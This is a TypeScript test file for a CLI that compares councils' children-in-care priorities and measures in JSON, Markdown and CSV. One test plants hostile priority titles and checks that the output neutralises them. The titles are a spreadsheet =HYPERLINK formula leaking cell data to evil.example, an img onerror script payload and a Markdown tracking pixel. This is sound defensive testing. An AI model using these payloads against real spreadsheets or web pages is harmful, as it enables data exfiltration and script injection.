/**
 * `npm run compare`: the real command against a running system, in each format,
 * checked against what the gateway answers directly.
 */
import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { parse } from "csv-parse/sync";
import MarkdownIt from "markdown-it";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { repoRoot } from "../scripts/catalog";
import type { ThemeComparison } from "../gateway/client/compare";
import { startSystem, type RunningSystem } from "./support/system";

const run = promisify(execFile);
const THEME = "children-in-care-and-care-leavers";

describe("npm run compare", () => {
  let system: RunningSystem;
  const compare = (...args: string[]) => run(process.execPath, ["--import", "tsx", "scripts/compare.ts", "--gateway", system.gatewayUrl, ...args], { cwd: repoRoot });
  beforeAll(async () => {
    system = await startSystem();
  });
  afterAll(async () => system?.close());

  it("json: priorities and lead groups of the theme per authority, and the measures their indicators map to, compared", async () => {
    const { stdout } = await compare("--theme", THEME, "--format", "json");
    const result = JSON.parse(stdout) as ThemeComparison;
    expect(result.theme.id).toBe(THEME);
    expect(result.authorities.map((a) => a.code)).toEqual(["E06000001", "E06000002", "E06000003", "E06000004", "E06000005"]);

    const direct = await system.query(`{ authorities(codes: ["E06000003", "E06000001"]) { code priorities(theme: "${THEME}") { title } } }`);
    const redcar = result.authorities.find((a) => a.code === "E06000003")!;
    const redcarDirect = direct.data!.authorities.find((a: { code: string }) => a.code === "E06000003");
    expect(redcar.priorities!.map((p) => p.title)).toEqual(redcarDirect.priorities.map((p: { title: string }) => p.title));
    expect(redcar.priorities!.length).toBeGreaterThan(0);
    expect(redcar.leadGroups!.length).toBeGreaterThan(0);
    // Hartlepool runs no plan subgraph: its plans are "not held", not "none"
    expect(result.authorities.find((a) => a.code === "E06000001")!.priorities).toBeNull();

    // LACStable_2016on is mapped by a Redcar indicator in this theme: every Tees Valley authority gets its comparison
    const stability = result.measures.find((m) => m.code === "LACStable_2016on")!;
    expect(stability.domain).toBe("care");
    const check = await system.query(`{ authority(code: "E06000001") { care { measures(codes: ["LACStable_2016on"]) { comparison { latest { value } rank { position } } } } } }`);
    const hartlepool = check.data!.authority.care.measures[0].comparison;
    expect(stability.byAuthority.E06000001!.latest!.value).toBe(hartlepool.latest.value);
    expect(stability.byAuthority.E06000001!.rank!.position).toBe(hartlepool.rank.position);
    expect(stability.byAuthority.E06000003!.neighbours!.set.publishedAt).toBe("2025-05");
  });

  it("md prints one table per part, says which neighbour set it used, and marks authorities without plans", async () => {
    const { stdout } = await compare("--theme", THEME, "--authorities", "E06000003,E06000004,E06000001", "--neighbours", "APRIL_2021");
    expect(stdout).toMatch(/^# Children in care and care leavers/);
    expect(stdout).toContain("## Priorities");
    expect(stdout).toContain("## Lead groups");
    expect(stdout).toContain("| Measure | Redcar and Cleveland | Stockton-on-Tees | Hartlepool | England |");
    expect(stdout).toContain("Statistical neighbours: DfE statistical neighbours, April 2021 (2021-04)");
    expect(stdout).toMatch(/\| Hartlepool \| no plan subgraph: plans not held \|/);
  });

  it("csv is long format, one row per authority and item", async () => {
    const { stdout } = await compare("--theme", THEME, "--authorities", "E06000003,E06000004", "--format", "csv", "--measures", "LAC");
    const rows = parse(stdout, { columns: true }) as Array<Record<string, string>>;
    const lac = rows.filter((r) => r.section === "measure" && r.item === "LAC");
    expect(lac.map((r) => r.authority_code)).toEqual(["E06000003", "E06000004"]);
    for (const r of lac) {
      const direct = await system.query(`{ authority(code: "${r.authority_code}") { care { measures(codes: ["LAC"]) { latest { value period { label } } } } } }`);
      expect(Number(r.value)).toBe(direct.data!.authority.care.measures[0].latest.value);
      expect(r.period).toBe(direct.data!.authority.care.measures[0].latest.period.label);
      expect(r.band).toBe(""); // LAC has no polarity: no band
    }
    expect(rows.some((r) => r.section === "priority" && r.authority_code === "E06000003")).toBe(true);
  });

  it("neutralises editors' hostile priority titles: text cells in the CSV (OWASP), plain text in the Markdown", async () => {
    const editor = await system.token({ role: "editor", authority: "E06000003" });
    const plans = await system.query<{ authority: { plans: Array<{ id: string }> } }>(`{ authority(code: "E06000003") { ... on RedcarAndCleveland { plans { id } } } }`);
    const planId = plans.data!.authority.plans[0]!.id;
    const titles = [
      `=HYPERLINK("https://evil.example/?leak="&C3,"Open") [Open](https://evil.example) <img src=x onerror=alert(1)>`,
      // no quote or comma: the old writer left it unquoted, and the bare \r split the row
      `-2+3\r@SUM(A1:A9) ![pixel](https://evil.example/p.png)`,
      `＋1 full-width plus`,
    ];
    for (const title of titles) {
      const created = await system.query(`mutation C($input: CreatePriorityInput!) { redcarAndCleveland { createPriority(input: $input) { id } } }`, { input: { planId, title, themes: [THEME], source: { section: "Hostile test" } } }, { token: editor });
      expect(created.errors, title).toBeUndefined();
    }

    const { stdout: csvText } = await compare("--theme", THEME, "--authorities", "E06000003", "--format", "csv");
    const rows = parse(csvText, { columns: true }) as Array<Record<string, string>>;
    const items = rows.filter((r) => r.section === "priority").map((r) => r.item);
    for (const title of titles) expect(items, title).toContain(`'${title}`);
    // every cell quoted, the formula's quotes doubled, the ' inside the quotes
    expect(csvText).toContain(`"priority","E06000003","Redcar and Cleveland","'=HYPERLINK(""https://evil.example/?leak=""&C3,""Open"")`);
    expect(csvText).toContain(`"'-2+3\r@SUM(A1:A9)`);

    const { stdout: md } = await compare("--theme", THEME, "--authorities", "E06000003");
    const html = new MarkdownIt({ html: true }).render(md);
    expect(html).not.toMatch(/<a |<img/);
    expect(html).toContain("=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;C3,&quot;Open&quot;) [Open](https://evil.example) &lt;img src=x onerror=alert(1)&gt;");
  });

  it("bad arguments are refused with a message naming them", async () => {
    const error = (await compare("--theme", THEME, "--format", "pdf").catch((e: { stderr: string; code: number }) => e)) as { stderr: string; code: number };
    expect(error.code).toBe(2);
    expect(error.stderr).toContain('--format must be md, csv or json, not "pdf"');
    const unknown = (await compare("--theme", "no-such-theme", "--format", "json").catch((e: { stderr: string }) => e)) as { stderr: string };
    expect(unknown.stderr).toContain('no theme "no-such-theme"');
  });
});
